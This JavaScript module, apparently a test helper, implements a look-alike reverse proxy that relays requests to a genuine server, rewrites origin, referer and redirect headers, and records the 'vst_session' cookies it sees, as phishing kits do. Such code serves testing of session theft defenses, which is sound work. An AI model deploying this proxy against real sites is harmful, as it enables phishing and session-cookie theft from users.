// A look-alike page: a program on another port that passes every request on to the genuine server and every answer back, as
// phishing kits do, and keeps the cookies that it sees.

import http from 'node:http';

/**
 * @typedef {object} LookAlike
 * @property {string} url of its pages
 * @property {() => string[]} sessions that it was given: the values of session cookies
 * @property {() => Promise<void>} closes
 */

/** @param {string} genuine address of the server behind it @returns {Promise<LookAlike>} */
export async function lookAlike(genuine) {
  const { host } = new URL(genuine);
  const sessions = [];
  const server = http.createServer((asked, answer) => {
    const own = `http://${asked.headers.host}`;
    const headers = { ...asked.headers, host };
    for (const name of ['origin', 'referer']) {
      if (headers[name]) headers[name] = headers[name].replace(own, genuine);
    }
    delete headers['accept-encoding'];
    const passed = http.request(new URL(asked.url, genuine), { method: asked.method, headers }, (given) => {
      const back = { ...given.headers };
      if (back.location) back.location = back.location.replace(genuine, own);
      for (const cookie of [back['set-cookie'] ?? []].flat()) {
        const [, value] = /^(?:__Host-)?vst_session=([^;]+)/.exec(cookie) ?? [];
        if (value) sessions.push(value);
      }
      answer.writeHead(given.statusCode, back);
      given.pipe(answer);
    });
    passed.on('error', () => answer.destroy());
    asked.pipe(passed);
  });
  await new Promise((listens) => { server.listen(0, 'localhost', listens); });
  return {
    url: `http://localhost:${server.address().port}`,
    sessions: () => sessions,
    closes: () => new Promise((closed) => { server.closeAllConnections(); server.close(closed); }),
  };
}
